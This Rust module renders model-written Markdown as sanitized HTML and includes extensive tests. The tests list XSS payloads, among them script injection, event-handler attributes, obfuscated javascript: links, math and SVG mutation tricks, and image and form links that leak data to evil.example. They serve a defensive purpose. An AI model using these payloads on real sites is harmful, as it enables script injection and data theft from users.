//! Renders Markdown from a model as HTML that is safe in a page.
//!
//! What this module keeps true for any text:
//!
//! * Raw HTML is shown as text, but for a few elements without attributes, such as `<br>` and `<details>`.
//! * Links lead only to `http`, `https` or `mailto`, open in a new tab and send no referrer. An image
//!   becomes a link: an image that loads by itself could send the conversation to another site.
//! * Time and size are bounded: text that is too long, too deep or too rich is shown as plain text.
//! * Control characters and characters that reorder text are removed, so that the code on the screen is
//!   the code that is copied.
//!
//! The events of the parser pass the filters (see `events`), and all output passes the sanitizer.

mod filters;
mod math;
mod sanitize;

use pulldown_cmark::{Event, TextMergeStream, html};

use crate::domain::Citation;
use crate::domain::markdown::Markdown;

/// Texts longer than this many bytes are shown as plain text.
const MAX_BYTES: usize = 512 * 1024;
/// Texts with more parser events than this are shown as plain text. A table of a few hundred bytes
/// can have a quarter of a million cells.
const MAX_EVENTS: usize = 100_000;

/// Renders `text`. `[[7]]` becomes a link to the source with the number 7; a number without a source
/// is left out. Takes about 10 ms for 100 KB.
pub(crate) fn markdown_with(text: &str, sources: &[Citation]) -> String {
    if text.len() > MAX_BYTES {
        return plain(text);
    }
    let text = without_controls(text);
    let markdown = Markdown::new(&text);
    let events: Vec<_> = events(&markdown, sources).take(MAX_EVENTS + 1).collect();
    if events.len() > MAX_EVENTS {
        return plain(&text);
    }
    let mut page = String::with_capacity(text.len() * 2);
    html::push_html(&mut page, events.into_iter());
    sanitize::clean(&page)
}

fn events<'a>(
    markdown: &'a Markdown<'a>,
    sources: &'a [Citation],
) -> impl Iterator<Item = Event<'a>> {
    let shaped = filters::Shaped::new(markdown.events());
    let noted = filters::Noted::new(shaped);
    let linked = filters::Linked::new(TextMergeStream::new(noted), sources);
    let mut formulas = math::Formulas::new();
    linked.map(move |event| match event {
        Event::InlineMath(formula) | Event::DisplayMath(formula) => {
            Event::InlineHtml(formulas.html(&formula).into())
        }
        Event::Text(text) => Event::Text(sanitize::shield(&text).into()),
        Event::Code(text) => Event::Code(sanitize::shield(&text).into()),
        event => event,
    })
}

/// `text` without formatting.
pub(crate) fn plain(text: &str) -> String {
    let text = sanitize::shield(&without_controls(text));
    sanitize::clean(&format!("<pre class=\"plain\">{text}</pre>"))
}

fn without_controls(text: &str) -> String {
    let kept = |c: &char| {
        let reorders = matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
        matches!(c, '\n' | '\t') || !(c.is_control() || reorders || sanitize::is_stand_in(*c))
    };
    text.replace("\r\n", "\n").chars().filter(kept).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn source(number: u32, url: &str, title: &str) -> Citation {
        Citation { number, url: url.into(), title: title.into(), snippet: None, date: None }
    }

    /// Everything that a browser would act on.
    fn assert_harmless(html: &str, of: &str) {
        let lower = html.to_ascii_lowercase();
        for bad in [
            "<script",
            "<svg",
            "<img",
            "<iframe",
            "<style",
            "<object",
            "<form",
            "<input",
            "<base",
            "<meta",
            "<maction",
            "<semantics",
            "<annotation",
        ] {
            assert!(!lower.contains(bad), "{bad} of {of:?} in {html}");
        }
        for tag in
            lower.split('<').skip(1).filter_map(|rest| rest.split_once('>')).map(|(tag, _)| tag)
        {
            for bad in
                ["javascript:", "data:", "vbscript:", " on", "style=", " id=", " name=", " src="]
            {
                // A title is text, and so is the source of a formula.
                let tag = tag.split(" title=").next().unwrap_or_default();
                let tag = tag.split(" alttext=").next().unwrap_or_default();
                assert!(!tag.contains(bad), "{bad} of {of:?} in {html}");
            }
        }
    }

    fn markdown(text: &str) -> String {
        markdown_with(text, &[])
    }

    #[test]
    fn common_markdown_is_rendered() {
        let html = markdown("# T\n\nA *b* **c** ~~d~~ `e`\n\n- [x] f\n- [ ] g\n\n> h\n\n3. i\n");
        assert_eq!(
            html,
            "<h3>T</h3>\n<p>A <em>b</em> <strong>c</strong> <del>d</del> <code>e</code></p>\n\
             <ul>\n<li>☑ f</li>\n<li>☐ g</li>\n</ul>\n<blockquote>\n<p>h</p>\n</blockquote>\n\
             <ol start=\"3\">\n<li>i</li>\n</ol>\n"
        );
    }

    #[test]
    fn code_keeps_its_language_and_its_text() {
        let html = markdown("```rust\nlet a = \"<b>\" && 1;\n```\n\n```\" onclick=x\ny\n```\n");
        assert!(
            html.contains(
                "<pre><code class=\"language-rust\">let a = \"&lt;b&gt;\" &amp;&amp; 1;\n</code></pre>"
            ),
            "{html}"
        );
        assert!(html.contains("<pre><code>y\n</code></pre>"), "{html}");
    }

    #[test]
    fn table_is_aligned_without_inline_styles() {
        let html = markdown("| a | b |\n|---|--:|\n| 1 | 2 |\n");
        assert!(html.starts_with("<div class=\"table\"><table>"), "{html}");
        assert!(html.contains("<th align=\"right\">b</th>"), "{html}");
        assert!(html.contains("<td>1</td><td align=\"right\">2</td>"), "{html}");
        assert!(html.ends_with("</table>\n</div>"), "{html}");
        assert!(!html.contains("style"));
    }

    #[test]
    fn hostile_markdown_becomes_text() {
        let hostile = [
            "<script>alert(1)</script>",
            "a <script>alert(1)</script> b",
            "<img src=x onerror=alert(1)>",
            "<svg onload=alert(1)><a xlink:href=javascript:alert(1)>x</a></svg>",
            "<svg><style><img src=x onerror=alert(1)></style></svg>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
            "<div\nonclick=alert(1)\n>x</div>",
            "<!-- --!> <script>alert(1)</script> -->",
            "<![CDATA[ <script>alert(1)</script> ]]>",
            "<iframe srcdoc=\"<script>alert(1)</script>\">",
            "<base href=//evil.example><form action=//evil.example><input name=a>",
            "<meta http-equiv=refresh content=0;url=//evil.example>",
            "[x](javascript:alert(1))",
            "[x](JaVaScRiPt:alert(1))",
            "[x](java\u{1}script:alert(1))",
            "[x](&#106;avascript:alert(1))",
            "[x](&#x6A;avascript&colon;alert(1))",
            "[x](javascript&#10;:alert(1))",
            "[x]( javascript:alert(1))",
            "[x](data:text/html;base64,PHNjcmlwdD4=)",
            "[x](vbscript:x)",
            "[x](//evil.example)",
            "[x](/api/chats)",
            "<javascript:alert(1)>",
            "[x][y]\n\n[y]: javascript:alert(1) \"t\"",
            "![x](https://evil.example/?secret)",
            "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
            "![x](\" onerror=\"alert(1))",
            "[x](https://a.example/\"onmouseover=\"alert(1))",
            "[x](https://a.example 'a\" onmouseover=\"alert(1)')",
            "```\"><script>alert(1)</script>\nx\n```",
            "`</code><script>alert(1)</script>`",
            "# x {#id onclick=alert(1)}",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "\u{0}<script>\u{0}alert(1)</script>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "| a |\n|--|\n| <script>alert(1)</script> |",
            "</div></div></main><script>alert(1)</script>",
            "$<script>alert(1)</script>$ \\(<img src=x onerror=alert(1)>\\)",
            "[$\"><script>alert(1)</script>$](https://a.example/$\"onclick=x$)",
            "![$<svg onload=x>$](https://a.example)",
            "https://a.example/\"onmouseover=\"alert(1)",
            "```$<b onclick=x>$\nx\n```",
        ];
        for text in hostile {
            assert_harmless(&markdown(text), text);
        }
    }

    #[test]
    fn raw_html_is_shown_as_text() {
        assert_eq!(
            markdown("a <b onclick=\"x\">c</b>"),
            "<p>a &lt;b onclick=\"x\"&gt;c&lt;/b&gt;</p>\n"
        );
        let block = markdown("<script>\nalert(1)\n</script>\n");
        assert_eq!(block.trim(), "<p>&lt;script&gt;\nalert(1)\n&lt;/script&gt;\n</p>");
    }

    #[test]
    fn links_open_in_a_new_tab_without_referrer() {
        let html = markdown("[a](https://a.example/?x=1&y=2 \"t\") <b@c.example>");
        assert!(html.contains("href=\"https://a.example/?x=1&amp;y=2\""), "{html}");
        assert!(html.contains("mailto:b@c.example"), "{html}");
        assert_eq!(html.matches("rel=\"noopener noreferrer nofollow\"").count(), 2, "{html}");
        assert_eq!(html.matches("target=\"_blank\"").count(), 2, "{html}");
    }

    #[test]
    fn formulas_emphasis_and_urls_of_models_are_understood() {
        let html = markdown(
            "**注意：**请看 \\[a \\\\ b\\]、$x*y*z$ 和 f[0](x): https://a.example/b。 $\\nothing{<b>}$",
        );
        assert!(html.starts_with("<p><strong>注意：</strong>请看 <math "), "{html}");
        assert!(html.contains("<math alttext=\"x*y*z\"><mi>x</mi><mo>∗</mo><mi>y</mi>"), "{html}");
        assert!(html.contains("和 f[0](x): <a href=\"https://a.example/b\""), "{html}");
        assert!(
            html.ends_with("<code class=\"tex\">$\\nothing{&lt;b&gt;}$</code></p>\n"),
            "{html}"
        );
        let block = markdown("```math\n\\frac{a<b}{2}\n```\n");
        assert!(block.contains("<mfrac>") && block.contains("<mo>&lt;</mo>"), "{block}");
        assert!(!block.contains("<pre"), "{block}");
        let unread = markdown("```math\n\\nothing{x}\n```\n");
        assert_eq!(unread, "<p><code class=\"tex\">\\nothing{x}</code></p>\n");
    }

    #[test]
    fn matrices_keep_their_classes_and_nothing_else_of_a_formula_passes() {
        let html = markdown(
            "$$\\begin{aligned} a &= b \\\\ &\\color{red}{= c} \\end{aligned} \\boxed{2}$$",
        );
        assert!(html.contains("<mtable class=\"menv-alignlike menv-align\">"), "{html}");
        assert!(html.contains("<mrow class=\"boxed\">"), "{html}");
        assert!(!html.contains("style"), "{html}");
    }

    #[test]
    fn nothing_in_a_formula_acts() {
        for tex in [
            r"\href{javascript:alert(1)}{x}",
            r"\url{javascript:alert(1)}",
            r"\style{color:red}{x}",
            r"\class{boxed}{x}",
            r"\cssId{a}{x}",
            r"\htmlData{onclick=x}{x}",
            r"\includegraphics{x}",
            r"\text{<img src=x onerror=y>}",
            r#"\text{"><script>alert(1)</script>}"#,
            r"\operatorname{<b onclick=x>}",
            r#"\color{red"onclick=x}{a}"#,
            r#"\hspace{1em" onclick="x}"#,
            r#"\begin{array}{c"onclick=x}a\end{array}"#,
            r"\boxed{\text{</math><script>alert(1)</script>}}",
            r"\tag{</mtext><script>alert(1)</script>}",
        ] {
            for text in [format!("a ${tex}$ b"), format!("```math\n{tex}\n```")] {
                assert_harmless(&markdown(&text), &text);
            }
        }
        for page in [
            "<math href=\"https://a.example\" xlink:href=\"x\" id=\"x\"><mi onclick=\"x\" href=\"/\">x</mi></math>",
            "<math><maction actiontype=\"statusline\"><mi>x</mi></maction></math>",
            "<math><semantics><annotation-xml encoding=\"text/html\"><img src=x onerror=y></annotation-xml></semantics></math>",
            "<math><mtext><table><mglyph><style><img src=x onerror=y></style></mglyph></table></mtext></math>",
            "<math><mstyle mathcolor=\"red\" mathbackground=\"red\" style=\"x\"><mi>x</mi></mstyle></math>",
            "<math><mtable class=\"menv-cases evil\"><mtr style=\"x\"><mtd>x</mtd></mtr></mtable></math>",
        ] {
            let clean = sanitize::clean(page);
            assert_harmless(&clean, page);
            for bad in ["href", "evil", "mathcolor", "mathbackground", "mglyph"] {
                assert!(!clean.contains(bad), "{bad} of {page} in {clean}");
            }
        }
    }

    #[test]
    fn footnotes_are_numbered_and_stand_at_the_end() {
        let html = markdown(
            "One[^b] and two[^a] and one[^b], not[^x].\n\n[^a]: About **a**\n[^b]: About b\n\nEnd",
        );
        assert_eq!(
            html,
            "<p>One<sup class=\"note\">1</sup> and two<sup class=\"note\">2</sup> and one\
             <sup class=\"note\">1</sup>, not[^x].</p>\n<p>End</p>\n<ol class=\"notes\">\n\
             <li>\n<p>About b</p>\n</li>\n<li>\n<p>About <strong>a</strong></p>\n</li>\n</ol>\n"
        );
    }

    #[test]
    fn notes_and_warnings_are_marked_quotations() {
        let html = markdown("> [!NOTE]\n> Read *this*\n\n> [!WARNING]\n> Or that\n\n> [!ODD]\n> x");
        assert!(
            html.contains("<blockquote class=\"markdown-alert-note\">\n<p>Read <em>this</em></p>"),
            "{html}"
        );
        assert!(html.contains("class=\"markdown-alert-warning\""), "{html}");
        assert!(html.contains("<blockquote>\n<p>[!ODD]"), "{html}");
    }

    #[test]
    fn a_few_elements_of_html_are_understood() {
        assert_eq!(
            markdown("H<sub>2</sub>O and x<sup>2</sup><br>next <b>*c*</b> <i>d</I>"),
            "<p>H<sub>2</sub>O and x<sup>2</sup><br>\nnext <strong><em>c</em></strong> <em>d</em></p>\n"
        );
        assert_eq!(
            markdown(
                "<details>\n<summary>More &amp; <b>more</b></summary>\n\nInner *text*\n\n</details>\n\nAfter"
            ),
            "<details>\n<summary>More &amp; <strong>more</strong></summary>\n<p>Inner <em>text</em></p>\n\
             </details>\n<p>After</p>\n"
        );
        assert_eq!(markdown("| a |\n|---|\n| b<br/>c |\n").matches("<br>").count(), 1);
        // What is not closed ends with its block, and what closes nothing is text.
        assert_eq!(markdown("a <b>b\n\nc"), "<p>a <strong>b</strong></p>\n<p>c</p>\n");
        assert_eq!(markdown("a</b> c"), "<p>a&lt;/b&gt; c</p>\n");
        assert_eq!(markdown("</details>\n\nx"), "<p>&lt;/details&gt;\n</p>\n<p>x</p>\n");
        assert!(markdown("<details>\n\nx").ends_with("</details>"));
        for text in ["a <b onclick=\"x\">c", "<details ontoggle=x>\n\nx", "<br onclick=x>"] {
            assert_harmless(&markdown(text), text);
        }
    }

    #[test]
    fn answers_as_models_write_them() {
        let answers = include_str!("../../../tests/fixtures/answers.md").split("\n===\n");
        let pages: Vec<_> =
            answers.map(|answer| format!("{answer}\n---\n{}", markdown(answer))).collect();
        assert!(pages.len() >= 60);
        for page in &pages {
            assert_harmless(page.split("\n---\n").last().unwrap_or_default(), page);
        }
        insta::assert_snapshot!("answers", pages.join("\n=====\n"));
    }

    #[test]
    fn image_becomes_a_link() {
        let html = markdown("![A cat](https://a.example/cat.png)");
        assert!(
            html.contains("href=\"https://a.example/cat.png\"") && html.contains("A cat</a>"),
            "{html}"
        );
        assert!(!html.contains("<img"));
    }

    #[test]
    fn citations_become_numbered_links() {
        let sources = [
            source(1, "https://a.example/?a=1&b=\"2\"", "A \"quoted\" <title>"),
            source(2, "https://b.example/", "B"),
            source(3, "javascript:alert(1)", "C"),
        ];
        let html = markdown_with("So [[1, 2]] and [[3]] and [[1,9]] `[[1]]` [[x", &sources);
        assert_eq!(html.matches("class=\"cite\"").count(), 3, "{html}");
        assert!(html.contains(">1</a><a ") && html.contains(">2</a>"), "{html}");
        assert!(!html.contains('3') && !html.contains('9'), "{html}");
        assert!(html.contains("<code>[[1]]</code>") && html.contains("[[x"), "{html}");
        assert_harmless(&html, "citations");
        for (text, shown) in [
            ("fact [[55,113]] end", "fact end"),
            ("a fact [[1]].", "a fact."),
            ("你好[[1]]。", "你好。"),
            ("x = [[1]]", "x = [[1]]"),
            ("array([[1,2]])", "array([[1,2]])"),
            ("[[1]]", "[[1]]"),
            ("see [[Page]]", "see [[Page]]"),
        ] {
            assert_eq!(markdown(text), format!("<p>{shown}</p>\n"));
        }
    }

    #[test]
    fn hostile_source_is_harmless() {
        let title = "\"><script>alert(1)</script>";
        for url in ["https://a.example/\"onclick=\"x", "javascript:alert(1)", "data:text/html,x"] {
            assert_harmless(&markdown_with("[[1]]", &[source(1, url, title)]), url);
        }
    }

    #[test]
    fn control_and_reordering_characters_are_removed() {
        let html =
            markdown("a\u{0}b\u{1b}[31mc\u{202e}d\u{2066}e\u{9b}f\r\n```\nx\u{202e}y\tz\n```");
        assert_eq!(html, "<p>ab[31mcdef</p>\n<pre><code>xy\tz\n</code></pre>\n");
    }

    #[test]
    fn excessive_text_is_rendered_as_plain_text() {
        let name = |n: u32| -> String {
            let letter = |place| char::from_digit(n / 10_u32.pow(place) % 10 + 10, 20);
            (0..5).filter_map(letter).collect()
        };
        let cells =
            format!("{}\n{}\n{}", "|a".repeat(1_000), "|-".repeat(1_000), "|b\n".repeat(5_000));
        let texts = [
            cells,
            "> ".repeat(100_000),
            "- ".repeat(100_000),
            (0..5_000).flat_map(|depth| ["  ".repeat(depth % 500), "- a\n".to_owned()]).collect(),
            "*a **b ".repeat(20_000),
            "[".repeat(100_000),
            "![a](".repeat(20_000),
            "<a ".repeat(50_000),
            "[[1]]".repeat(5_000),
            "`".repeat(100_000),
            "| a |\n|--|\n".repeat(10_000),
            "<div>\n\n".repeat(20_000),
            "&".repeat(200_000),
            format!("[a](https://a.example/{} \"{}\")", "&".repeat(100_000), "<".repeat(100_000)),
            format!("```{}\n{}\n```", "&".repeat(100_000), "\"<&>".repeat(50_000)),
            format!("https://a.example/{}", "\\(b\\)".repeat(100_000)),
            (0..35_000)
                .flat_map(|n: u32| ["\\begin{".to_owned(), name(n), "}".to_owned()])
                .collect(),
            (0..12_000).flat_map(|n| [format!("[^{n}]\n\n"), format!("[^{n}]: x\n\n")]).collect(),
            "x".repeat(MAX_BYTES + 1),
        ];
        for text in texts {
            let html = markdown_with(&text, &[source(1, "https://a.example/", "A")]);
            let start: String = text.chars().take(20).collect();
            assert!(html.len() < 32 * MAX_BYTES, "{start:?} has {} bytes", html.len());
            assert_harmless(&html, &start);
        }
    }

    #[test]
    fn placeholder_characters_are_removed_from_input() {
        let text: String = ('\u{fdd0}'..='\u{fdef}').collect();
        assert_eq!(markdown(&format!("a{text}b `{text}c`")), "<p>ab <code>c</code></p>\n");
        assert_eq!(markdown("`a<b>&\"c\"`"), "<p><code>a&lt;b&gt;&amp;\"c\"</code></p>\n");
    }

    #[test]
    fn nesting_is_flattened_and_keeps_the_text() {
        let html = markdown(&format!("{}deep", "> ".repeat(1_000)));
        assert!(html.contains("deep"));
        assert!(html.matches("<blockquote>").count() <= 32);
    }

    #[test]
    fn plain_text_keeps_white_space_and_is_escaped() {
        assert_eq!(plain("a  b\n\t<c>"), "<pre class=\"plain\">a  b\n\t&lt;c&gt;</pre>");
    }

    mod fuzz {
        use proptest::prelude::*;

        use super::*;

        /// The tags of a page, with the values of their attributes apart.
        fn tags(html: &str) -> Vec<(String, Vec<String>)> {
            let mut tags = Vec::new();
            let (mut in_tag, mut in_value) = (false, false);
            for c in html.chars() {
                match (c, in_tag, in_value) {
                    ('<', false, _) => {
                        in_tag = true;
                        tags.push((String::new(), Vec::new()));
                    }
                    ('>', true, false) => in_tag = false,
                    ('"', true, _) => {
                        in_value = !in_value;
                        if let (true, Some((_, values))) = (in_value, tags.last_mut()) {
                            values.push(String::new());
                        }
                    }
                    (c, true, false) => tags.last_mut().expect("a tag").0.push(c),
                    (c, true, true) => {
                        tags.last_mut()
                            .and_then(|(_, values)| values.last_mut())
                            .expect("a value")
                            .push(c);
                    }
                    _ => {}
                }
            }
            assert!(!in_tag, "{html}");
            tags
        }

        fn is_harmless(html: &str) -> bool {
            tags(html).into_iter().all(|(tag, values)| {
                let mut words = tag.split([' ', '=', '/']).filter(|word| !word.is_empty());
                let is_known = words.next().is_some_and(|name| sanitize::TAGS.contains(&name));
                let attributes: Vec<_> = words.collect();
                let of = |name: &str| attributes.iter().position(|attribute| *attribute == name);
                let url = of("href").and_then(|at| values.get(at));
                let known = ["href", "title", "target", "rel", "class", "align", "start"];
                let is_math = |attribute: &&str| sanitize::MATH_ATTRIBUTES.contains(attribute);
                is_known
                    && attributes.iter().all(|name| known.contains(name) || is_math(name))
                    && url.is_none_or(|url| {
                        ["https://", "http://", "mailto:"]
                            .iter()
                            .any(|scheme| url.starts_with(scheme))
                    })
            })
        }

        proptest! {
            #[test]
            fn any_markdown_is_harmless(
                pieces in prop::collection::vec(
                    "<script>|<img src=x onerror=y>|</|javascript:|data:|https://a.example|\\]\\(|\\[|!\\[|\\)|\"|'|`+|\\*+|~~|\
                     \\$+|\\\\[(\\[\\])]|\\[\\[1\\]\\]|&#x?[0-9a]{1,4};|\\||\n|\n\n|- |> |# |onclick=|\\PC{0,4}",
                    0..12,
                ),
            ) {
                let text = pieces.concat();
                let sources = [source(1, "https://b.example/\"onclick=x", "\"><script>")];
                let html = markdown_with(&text, &sources);
                prop_assert!(is_harmless(&html), "{html}");
            }
        }
    }
}
